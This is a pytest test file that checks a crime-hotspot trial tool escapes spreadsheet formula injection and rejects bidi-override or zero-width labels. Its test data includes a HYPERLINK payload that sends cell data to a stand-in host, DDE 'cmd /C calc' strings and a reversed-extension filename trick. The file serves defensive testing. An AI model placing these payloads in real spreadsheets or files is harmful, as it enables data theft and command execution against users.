"""Spreadsheet formula injection and rendering-breaking labels (issue 11, item 6)."""

from __future__ import annotations

import datetime as dt
import zipfile

import geopandas as gpd
import pandas as pd
import pytest

from conftest import make_hotspots, write_trial
from guardian_rct._core.errors import DataError
from guardian_rct._core.formula_safe import escape_cell, formula_safe_frame
from guardian_rct._core.quarantine import quarantine_rows
from guardian_rct.config.trial_config import load_config
from guardian_rct.geo.hotspots import hotspots_from_frame
from guardian_rct.jobs.daily import run_daily
from guardian_rct.ledger.store import init_trial

NOW = dt.datetime(2023, 3, 20, 7, 0, tzinfo=dt.UTC)
START = dt.date(2023, 3, 20)
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_is_prefixed_with_a_quote(payload):
    assert escape_cell(payload) == "'" + payload


@pytest.mark.parametrize("number", ["-1.5", "+44", "-2e-3", "12", ".5"])
def test_numbers_written_as_text_stay_numbers(number):
    assert escape_cell(number) == number


def test_numeric_columns_keep_negative_numbers_as_numbers():
    frame = pd.DataFrame({"x": [-1.25, 2.0], "name": ["=cmd", "ok"]})
    out = formula_safe_frame(frame)
    assert out["x"].tolist() == [-1.25, 2.0] and out["x"].dtype == float
    assert out["name"].tolist() == ["'=cmd", "ok"]
    assert "-1.25" in out.to_csv(index=False) and "'-1.25" not in out.to_csv(index=False)


def _injected_trial(tmp_path):
    frame = make_hotspots()
    frame["name"] = [PAYLOADS[i % 4] for i in range(len(frame))]  # tab/CR names are refused on read
    cfg = load_config(write_trial(tmp_path, hotspots=frame))
    init_trial(cfg)
    return run_daily(cfg, START, out_dir=tmp_path / "out", now=NOW).outputs[0]


def test_tasking_xlsx_has_no_formula_and_keeps_the_name_as_text(tmp_path):
    out = _injected_trial(tmp_path)
    with zipfile.ZipFile(out.xlsx) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    import openpyxl

    cells = [c for row in openpyxl.load_workbook(out.xlsx).active.iter_rows() for c in row]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert texts & set(PAYLOADS[:4])  # the literal names, stored as strings
    assert not [c for c in cells if c.data_type == "f"]


def test_tasking_csv_cells_are_escaped_and_coordinates_stay_numbers(tmp_path):
    out = _injected_trial(tmp_path)
    table = pd.read_csv(out.csv, dtype=str, keep_default_na=False)
    names = set(table["name"])
    assert all(n.startswith("'") for n in names), names
    assert {n[1:] for n in names} <= set(PAYLOADS[:4])
    assert pd.to_numeric(table["longitude"]).lt(0).all()  # West Midlands: negative longitudes, unquoted


def test_tasking_html_shows_the_name_literally(tmp_path):
    out = _injected_trial(tmp_path)
    from markupsafe import escape

    page = out.html.read_text(encoding="utf-8")
    names = set(pd.read_csv(out.csv, dtype=str, keep_default_na=False)["name"].str[1:])
    assert names and all(str(escape(n)) in page for n in names)
    assert '<a href="http://evil' not in page


def test_quarantine_csv_escapes_raw_cells(tmp_path):
    q = quarantine_rows(pd.DataFrame({"crime_id": ["=1+1"], "x": ["-1.5"]}), "missing coordinates",
                        source=tmp_path / "in.csv", source_row=pd.Series([1]))
    text = q.write_csv(tmp_path / "q.csv").read_text(encoding="utf-8")
    assert "'=1+1" in text and ",-1.5" in text


@pytest.mark.parametrize("bad_id, why", [
    ("=HYPERLINK(1)", "leading '='"), ("-H1", "leading '-'"), ("@H1", "leading '@'"),
    ("$\\frac{1}{0}$", "'$'"), ("H\u202e10", "U+202E"), ("H\n1", "U+000A"), ("H\u200b1", "U+200B"),
])
def test_hotspot_ids_that_break_maps_or_sheets_are_refused(bad_id, why):
    frame = make_hotspots(3)
    frame.loc[1, "hotspot_id"] = bad_id
    with pytest.raises(DataError) as err:
        hotspots_from_frame(frame, source=None)
    message = str(err.value)
    assert why in message and "row 2" in message and "'hotspot_id'" in message


def test_hotspot_names_with_a_bidi_override_are_refused_but_dollars_are_kept():
    frame = make_hotspots(3)
    frame.loc[0, "name"] = "Cost $5 street"
    assert hotspots_from_frame(frame).frame["name"].iloc[0] == "Cost $5 street"
    frame.loc[2, "name"] = "evil\u202etxt.exe"
    with pytest.raises(DataError, match=r"row 3, column 'name'.*U\+202E"):
        hotspots_from_frame(frame)


def test_hotspots_validate_cli_refuses_a_formula_id(tmp_path, capsys):
    from guardian_rct.cli import main

    frame = make_hotspots(3)
    frame.loc[0, "hotspot_id"] = "=cmd|'/C calc'!A0"
    path = tmp_path / "h.geojson"
    gpd.GeoDataFrame(frame).to_crs(4326).to_file(path, driver="GeoJSON")
    code = main(["hotspots", "validate", str(path), "--no-boundary"])
    text = capsys.readouterr()
    assert code == 1 and "formula" in text.err and "h.geojson" in text.err
    assert len(text.err.strip().splitlines()) == 1
